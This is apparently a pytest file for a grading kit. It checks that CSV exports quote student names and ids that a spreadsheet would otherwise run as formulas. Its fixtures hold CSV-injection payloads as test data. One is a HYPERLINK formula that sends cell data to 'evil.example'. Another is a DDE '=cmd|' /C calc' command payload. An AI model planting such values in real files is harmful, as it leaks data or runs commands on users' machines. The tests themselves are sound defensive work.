"""Every CSV the kit writes shows students' names as text in a spreadsheet, never as a
formula (OWASP CSV injection), keeps numbers as numbers, and the kit's own readers still
match the quoted ids back to the submissions."""
import csv
import io
from types import SimpleNamespace

import pytest

from autograder.report import gradebook
from autograder.export.canvas import canvas_export, read_roster
from autograder.policy.late import SubmissionTimes
from autograder.report import changes
from autograder.files import csv_cells
from autograder.similarity.compare import Pair
from autograder.similarity.report import similarity_csv
from tests.autograder.report.class_fixtures import graded

# what a spreadsheet runs as a formula when a cell starts with it
FORMULA_STARTS = "=+-@\t\r"
# names students control (file names, LMS display names) that a spreadsheet would run
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
           "\tx", "\rx"]
# the ids a grades folder can hold (a class run keeps letters, digits and ._@+- only)
HOSTILE_IDS = ["+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "=1+1"]


def is_number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_no_formula(csv_text):
    """Every cell either does not start like a formula or is a plain number."""
    for row in csv.reader(io.StringIO(csv_text)):
        for cell in row:
            assert not cell or cell[0] not in FORMULA_STARTS or is_number(cell), (cell, row)


def cells(csv_text):
    return [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_is_quoted_and_read_back(value):
    cell = csv_cells.safe_cell(value)
    assert cell == "'" + value
    assert csv_cells.original(cell) == value


@pytest.mark.parametrize("value", ["-3.5", "+2", "-1e-3", "0", "12.", ".5", "alice", "",
                                   "a=b", "'quoted"])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert csv_cells.safe_cell(value) == value
    assert csv_cells.original(value) == value


@pytest.mark.parametrize("value", ["-inf", "-nan", "-1_000", "+1e", "-", "+"])
def test_what_only_python_reads_as_a_number_is_quoted(value):
    # float() takes "-inf" and "-1_000"; a spreadsheet reads them as formulas
    assert csv_cells.safe_cell(value) == "'" + value


def test_non_strings_pass_through():
    assert csv_cells.safe_cell(-3.5) == -3.5 and csv_cells.safe_cell(None) is None


def test_gradebook_with_hostile_ids_and_review_reason(tmp_path):
    for sid in HOSTILE_IDS:
        graded(tmp_path, sid, [10, 12])
    text = gradebook.gradebook_csv(gradebook.read_rows(str(tmp_path), HOSTILE_IDS))
    assert_no_formula(text)
    rows = list(csv.reader(io.StringIO(text)))
    assert [row[0] for row in rows[1:]] == ["'" + sid for sid in HOSTILE_IDS]
    assert rows[1][1:] == ["22", "30", "10", "12"]          # numbers stay numbers
    review = gradebook.Row("-1-1", -1.5, 30, review="=cmd|' /C calc'!A0")
    text = gradebook.gradebook_csv([review])
    assert_no_formula(text)
    assert cells(text)[-4:] == ["'-1-1", "-1.5", "30", "'=cmd|' /C calc'!A0"]


def test_changes_with_hostile_ids(tmp_path):
    for sid in HOSTILE_IDS:
        graded(tmp_path, sid, [10, 20])
    changes.keep_previous(str(tmp_path), HOSTILE_IDS)
    for sid in HOSTILE_IDS:
        graded(tmp_path, sid, [10, 12])
    assert changes.write_changes(str(tmp_path)) == len(HOSTILE_IDS)
    with open(tmp_path / changes.CHANGES_FILE, newline="") as f:   # "\r" kept, as csv reads
        text = f.read()
    assert_no_formula(text)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert sorted(csv_cells.original(row["submission"]) for row in rows) == sorted(HOSTILE_IDS)
    assert {row["change"] for row in rows} == {"-8"}         # a negative number, unquoted


def test_canvas_export_with_hostile_names_and_a_roster_from_the_gradebook(tmp_path):
    grades = tmp_path / "grades"
    for sid in HOSTILE_IDS:
        graded(grades, sid, [10, 20])
    graded(grades, "-not-in-roster", [1, 1])
    # the roster is the gradebook's submission column (quoted ids) beside LMS names
    book = gradebook.gradebook_csv(gradebook.read_rows(str(grades), HOSTILE_IDS))
    quoted_ids = [row["submission"] for row in csv.DictReader(io.StringIO(book))]
    roster = tmp_path / "roster.csv"
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "submission"])
    for n, (name, sid) in enumerate(zip(HOSTILE, quoted_ids)):
        writer.writerow([name, 100 + n, "S%d" % n, "+login%d" % n, "@L01", sid])
    writer.writerow(["=Nobody()", 200, "S9", "nobody", "L02", "-missing"])
    roster.write_text(out.getvalue())
    export = canvas_export(str(grades), read_roster(str(roster)), "=CNN homework")
    assert_no_formula(export.csv_text)
    assert_no_formula(export.unmatched_csv())
    rows = list(csv.reader(io.StringIO(export.csv_text)))
    assert rows[0][-1] == "'=CNN homework"
    # (the roster reader strips the names' surrounding white space: "\tx" is "x")
    assert [row[0] for row in rows[2:2 + len(HOSTILE)]] == ["'" + name for name in HOSTILE[:4]] \
        + ["x", "x"]
    # every quoted id matched its graded submission: all exported with their totals
    assert export.exported == len(HOSTILE_IDS)
    assert [row[-1] for row in rows[2:2 + len(HOSTILE)]] == ["30"] * len(HOSTILE)
    assert export.not_in_roster == ["-not-in-roster"]
    assert "'-not-in-roster" in cells(export.unmatched_csv())


def test_similarity_csv_with_hostile_ids():
    ids = HOSTILE_IDS[:2]
    pair = Pair(0, 1, 0.9, 0.8, 120, 110, 30, 28, flagged=True)
    text = similarity_csv(ids, {}, [pair], SimpleNamespace(list_from=0.25))
    assert_no_formula(text)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][:3] == ["'+1+1", "'-2+3", "0.900"]


def test_submission_times_from_the_gradebook_match_the_quoted_ids(tmp_path):
    times = tmp_path / "times.csv"
    times.write_text("submission,submitted_at\n'+1+1,2026-12-13T09:00:00Z\n")
    policy = SimpleNamespace(submission_times="times.csv", extensions="")
    loaded = SubmissionTimes.load(policy, str(tmp_path))
    assert list(loaded.times) == ["+1+1"]
